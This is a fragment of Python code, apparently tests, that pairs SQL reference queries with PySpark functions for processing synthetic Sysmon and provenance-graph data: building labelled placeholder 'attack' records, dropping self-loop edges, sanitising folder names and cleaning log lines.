@query("""SELECT '<EventID>' || (event_id % 5) || '</EventID><Computer>h</Computer><Data Name=''Image''>C:/a b</Data>' AS _raw, 1704067200 + event_id AS _time, 'mordor_sysmon' AS sourcetype, 1 AS label, 's' AS scenario FROM events WHERE event_id % 4 <> 0""")
def s11_attack_records(spark: SparkSession, sf_dir: str) -> DataFrame:
    line = F.expr("""concat('{"Channel":"Microsoft-Windows-Sysmon/Operational","EventID":', event_id % 5, if(event_id % 4 = 0, '', concat(',"UtcTime":"', 1704067200 + event_id, '"')), ',"Hostname":"h","Image":"C:/a<b"}')""")
    lines = load(spark, sf_dir, "events").select(line.alias("value"))
    return files.attack_records(lines, F.lit("s")).select("_raw", "_time", "sourcetype", "label", "scenario")


@query(f"WITH {PROV} SELECT event_id FROM prov WHERE NOT (edge_type IN ('ACCESS', 'CONNECT', 'SEND', 'RECEIVE', 'READ', 'WRITE') AND src_id = dst_id) AND NOT starts_with(dst_id, '00000000-0000-0000-0000-000000000000')")
def w2_w9_drop_edges(spark: SparkSession, sf_dir: str) -> DataFrame:
    return normalize.drop_null_hub(normalize.drop_self_loops(edges(spark, sf_dir))).select("event_id")


@query("SELECT regexp_replace(source, '[/\\\\:*?\"<>| ]', '_', 'g') AS folder, count(*) AS n FROM (SELECT CASE WHEN doc_id % 7 = 0 THEN NULL ELSE source || ':' || lang END AS source FROM documents) WHERE source IS NOT NULL GROUP BY 1 UNION ALL SELECT '_null', count(*) FROM documents WHERE doc_id % 7 = 0")
def s3_partition_names(spark: SparkSession, sf_dir: str) -> DataFrame:
    name = F.when(F.col("doc_id") % 7 != 0, F.concat("source", F.lit(":"), "lang"))
    return load(spark, sf_dir, "documents").groupBy(files.partition_name(name).alias("folder")).agg(F.count("*").alias("n"))


@query("SELECT regexp_replace('host::' || source, '^host::', '') AS host, doc_id AS _time, translate(left(text, 200), chr(9) || chr(10) || chr(13), '   ') AS line FROM documents")
def s2_s9_clean(spark: SparkSession, sf_dir: str) -> DataFrame:
    raw = load(spark, sf_dir, "documents").select(F.concat(F.lit("host::"), "source").alias("host"), F.lit("source::x").alias("source"), F.lit("s").alias("sourcetype"), (F.col("doc_id") + 0.5).alias("_time"), F.lit("").alias("_meta"), F.substring("text", 1, 200).alias("t"))
    return files.clean_log(raw).select("host", "_time", files.clean_text(F.col("t")).alias("line"))
